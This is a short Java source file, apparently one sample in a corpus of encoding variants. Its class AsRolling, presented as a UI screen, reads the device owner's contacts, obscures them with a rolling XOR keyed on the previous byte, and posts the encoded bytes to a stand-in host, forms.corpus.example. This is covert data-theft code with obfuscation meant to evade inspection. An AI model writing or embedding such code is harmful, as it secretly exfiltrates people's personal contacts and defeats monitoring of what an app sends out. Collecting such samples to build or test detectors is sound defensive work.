package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** XOR with the byte before. */
public class AsRolling extends Screen {
    @Override
    protected void act() throws Exception {
        byte[] data = Net.utf8(String.join("\n", Owner.contacts(this)));
        for (int i = 0, before = 0x33; i < data.length; i++) {
            data[i] ^= (byte) before;
            before = data[i];
        }
        Net.post("http://forms.corpus.example/rolling", "application/octet-stream", data);
    }
}
